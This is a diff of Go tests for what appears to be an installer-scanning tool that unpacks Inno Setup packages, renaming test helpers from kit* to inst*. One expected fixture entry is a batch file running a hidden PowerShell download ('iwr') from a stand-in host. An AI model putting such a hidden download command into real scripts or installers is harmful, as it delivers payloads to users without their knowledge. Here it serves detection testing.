@@ -39,13 +39,13 @@ cmd.exe
 // TestInno holds the files against those that the installers were made of.
 func TestInno(t *testing.T) {
 	for _, kind := range innoKinds {
-		data := makeInno(kitFile(t, "inno/"+kind+".bin"))
+		data := makeInno(instFile(t, "inno/"+kind+".bin"))
 		if got := Wrapper(meetguard.FormatPE, data); got != wrapperInno {
 			t.Errorf("%s: wrapper is %q", kind, got)
 		}
-		all, err := kitWalk(meetguard.FormatPE, data, kitBudget())
+		all, err := instWalk(meetguard.FormatPE, data, instBudget())
 		if err != nil || len(all) != 7 {
-			t.Errorf("%s: got %v and\n%s", kind, err, kitList(all))
+			t.Errorf("%s: got %v and\n%s", kind, err, instList(all))
 			continue
 		}
 		if all[0].role != RoleLaunch || !strings.HasSuffix(all[0].text, wantInnoCommands) {
@@ -60,7 +60,7 @@ func TestInno(t *testing.T) {
 		want := `{app}/readme.txt||"hello from inno\n"` + "\n{app}/inert.exe||72192 1a013cceebc3d41d\n" +
 			"{app}/sub/numbers.txt||13893 2e57c67a8bbe706a\n" +
 			`{tmp}/run.bat||"powershell -w hidden -c \"iwr https://x.invalid/a\"\r\n"` + "\n"
-		if got := kitList(all[3:]); got != want {
+		if got := instList(all[3:]); got != want {
 			t.Errorf("%s: got\n%swant\n%s", kind, got, want)
 		}
 	}
@@ -69,28 +69,28 @@ func TestInno(t *testing.T) {
 // TestInnoUnknown sees that a version with another loader is named.
 func TestInnoUnknown(t *testing.T) {
 	data := makeProgram(programKit{resources: []programResource{{"10", innoResource, []byte("rDlPtS of another version, and 44 bytes long..")}}})
-	_, err := kitWalk(meetguard.FormatPE, data, kitBudget())
+	_, err := instWalk(meetguard.FormatPE, data, instBudget())
 	if !errors.Is(err, ErrPartial) || !strings.Contains(err.Error(), "Inno Setup") {
 		t.Errorf("got %v", err)
 	}
 }
 
 func TestInnoDamaged(t *testing.T) {
-	kitMangle(t, meetguard.FormatPE, makeInno(kitFile(t, "inno/6.0.2-lzma2.bin")), 4001)
+	instMangle(t, meetguard.FormatPE, makeInno(instFile(t, "inno/6.0.2-lzma2.bin")), 4001)
 }
 
 func FuzzInno(f *testing.F) {
 	for _, kind := range innoKinds {
-		f.Add(kitFile(f, "inno/"+kind+".bin"))
+		f.Add(instFile(f, "inno/"+kind+".bin"))
 	}
-	f.Fuzz(func(t *testing.T, data []byte) { kitFuzz(t, meetguard.FormatPE, makeInno(data)) })
+	f.Fuzz(func(t *testing.T, data []byte) { instFuzz(t, meetguard.FormatPE, makeInno(data)) })
 }
 
 // FuzzInnoTexts reads headers that need not fit their checksums.
 func FuzzInnoTexts(f *testing.F) {
 	for _, kind := range innoKinds {
-		s := &innoSetup{opt: Options{Budget: kitBudget()}}
-		if err := s.open(openProgram(makeInno(kitFile(f, "inno/"+kind+".bin")))); err != nil {
+		s := &innoSetup{opt: Options{Budget: instBudget()}}
+		if err := s.open(openProgram(makeInno(instFile(f, "inno/"+kind+".bin")))); err != nil {
 			f.Fatal(err)
 		}
 		f.Add(s.header, s.wide)
